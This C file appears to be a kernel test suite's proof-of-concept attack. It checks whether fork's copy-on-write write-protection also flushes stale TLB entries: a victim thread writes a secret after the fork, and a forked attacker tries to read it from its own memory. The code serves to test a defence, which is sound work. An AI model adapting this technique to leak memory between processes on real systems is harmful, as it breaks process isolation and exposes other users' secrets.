/*
 * attack_downgrade - against the wall "downgrade": what fork write-protects goes from the TLBs as well.
 *
 * The victim has a thread on CPU 1 that has written to some pages. Then it forks the attacker on CPU 0: the pages are
 * both processes' now, until one of them writes. The thread writes the secret into them. Where the wall stands, that
 * faults and gets the victim pages of its own; else an entry in CPU 1's TLB, from before the fork, still permits it,
 * and the attacker reads in its own memory what the victim wrote after the fork. A TLB forgets, and all of it if CPU
 * 1 has to do with another space meanwhile: so there are several pages, and several victims, one after the other.
 */
/* run: --smp=2 */
#include "attack.h"
#include "threads.h"

#include <sys/mman.h>

#define PAGES   32
#define VICTIMS 20

static volatile unsigned char *pages;
static unsigned char secret[SECRET];
static int written, draw, drawn[2], loot[2];

/* Of all that is written: the first SECRET bytes of each page. */
static volatile unsigned char *byte_of(int i)
{
	return pages + i / SECRET * PAGE + i % SECRET;
}

static int writes(void *unused)
{
	(void)unused;
	run_on(1);
	for (int i = 0; i < PAGES * SECRET; i++)
		*byte_of(i) = 'x';
	__atomic_store_n(&written, 1, __ATOMIC_SEQ_CST);
	while (!read_word(&draw))
		; /* in ring 3 all the time, so that this CPU keeps its TLB */
	for (int i = 0; i < PAGES * SECRET; i++)
		*byte_of(i) = secret[i % SECRET];
	sc(SYS_write, drawn[1], "d", 1);
	return 0;
}

static void attacker(void)
{
	unsigned char bytes[SECRET];
	int changed = 0;

	close(2);
	await(drawn[0]);
	for (int i = 0; i < PAGES * SECRET && !(changed && i % SECRET == 0); i++) {
		bytes[i % SECRET] = *byte_of(i);
		changed |= bytes[i % SECRET] != 'x';
	}
	_exit(changed && write(loot[1], bytes, SECRET) != SECRET);
}

static void victim(void)
{
	int attacker_pid;

	run_on(0);
	pages = mmap(0, PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	thread_raw(writes, 0);
	while (!read_word(&written))
		sc(SYS_sched_yield);
	attacker_pid = fork();
	if (attacker_pid == 0)
		attacker();
	victim_draw(secret);
	__atomic_store_n(&draw, 1, __ATOMIC_SEQ_CST);
	wait_for(attacker_pid);
	_exit(0);
}

/* One victim: is its secret stolen? */
static int attack(void)
{
	int victim_pid, success;

	make_pipe(drawn);
	make_pipe(loot);
	victim_pid = fork();
	if (victim_pid == 0)
		victim();
	close(loot[1]);
	wait_for(victim_pid);
	success = report_success(loot[0]);
	close(loot[0]);
	close(drawn[0]);
	close(drawn[1]);
	return success;
}

int main(void)
{
	return attack_several(attack, VICTIMS);
}
